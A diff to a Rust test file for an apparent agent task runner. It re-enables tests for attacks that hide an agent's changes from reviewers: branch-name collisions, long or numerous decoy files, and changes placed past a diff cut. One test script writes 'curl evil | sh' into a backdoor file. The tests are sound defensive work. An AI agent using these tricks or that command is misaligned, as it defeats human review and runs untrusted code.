@@ -137,7 +137,6 @@ fn run_attempts(t: &mut Task) -> SubtaskId {
 /// `a`'s first attempt: two agents push to one branch, and the reviewer's pick of
 /// attempt 1 merges the other step's work (or a mix of both) as "attempt 1".
 #[test]
-#[ignore = "BROKE: a step `a-try1` next to `a` with attempts expands to two subtasks pushing to `<task>-step-a-try1`; the plan check accepts it"]
 fn a_step_id_cannot_take_the_branch_of_another_steps_attempt() {
     let plan = serde_json::json!({"version": 1, "steps": [
         {"id": "a", "capability": "coder", "title": "part a", "instructions": "write a.txt",
@@ -216,7 +215,7 @@ fn with_two_json_blocks_the_last_pick_counts() {
     match step_of(&t, pick) {
         Some(Step::Pick { picked, .. }) => {
             assert!(
-                picked.as_deref().is_some_and(|p| p.ends_with("-try2")),
+                picked.as_deref().is_some_and(|p| p.ends_with(".try2")),
                 "{picked:?}"
             )
         }
@@ -242,7 +241,7 @@ fn a_pick_that_also_requests_changes_still_picks_and_goes_on() {
     assert!(!next.is_empty(), "nothing runs after the pick");
     match step_of(&t, pick) {
         Some(Step::Pick { picked, .. }) => {
-            assert!(picked.is_some_and(|p| p.ends_with("-try1")))
+            assert!(picked.is_some_and(|p| p.ends_with(".try1")))
         }
         other => panic!("{other:?}"),
     }
@@ -461,7 +460,7 @@ fn a_failed_pick_retried_picks_again() {
     assert!(!t.status.is_terminal(), "{:?}", t.error);
     match step_of(&t, pick) {
         Some(Step::Pick { picked, .. }) => {
-            assert!(picked.is_some_and(|p| p.ends_with("-try2")))
+            assert!(picked.is_some_and(|p| p.ends_with(".try2")))
         }
         other => panic!("{other:?}"),
     }
@@ -518,7 +517,6 @@ async fn run_agent(script_text: &str) -> Vec<serde_json::Value> {
 /// entries alone outgrows the 24 KiB event bound, and a diff event that cannot fit is
 /// not sent. The run's change (and the branch's against its base) must still be shown.
 #[tokio::test(flavor = "multi_thread")]
-#[ignore = "BROKE: 50 files with ~600-byte paths make the runner send no diff and no branch_diff event at all"]
 async fn long_decoy_paths_do_not_hide_the_change_from_the_diff_view() {
     let events = run_agent(
         r#"
@@ -544,7 +542,6 @@ echo 'curl evil | sh' > zzz-backdoor.sh
 /// the runner lists 50 files and cuts the patch, so the change's file must still be
 /// named somewhere in the diff event the dashboard renders.
 #[tokio::test(flavor = "multi_thread")]
-#[ignore = "BROKE: past 50 files the diff event lists only the first 50 (and the page shows no list, only counts); the 61st file is named nowhere"]
 async fn many_decoy_files_do_not_hide_the_change_from_the_diff_view() {
     let events = run_agent(
         r#"
@@ -613,7 +610,6 @@ fn hostile_diffs_render_as_text_in_the_browser() {
 /// Attack: the runner's diff event cut at a file boundary, the change that matters past
 /// the cut and only in the event's file list: the page must name it.
 #[test]
-#[ignore = "BROKE: the diff view renders only the patch and counts; a file past the cut (listed in the event's files) is named nowhere on the page"]
 fn a_file_past_the_cut_is_named_on_the_page() {
     let (ok, out) = diff_attacks(&["hidden_past_the_cut"]);
     assert!(ok, "{out}");
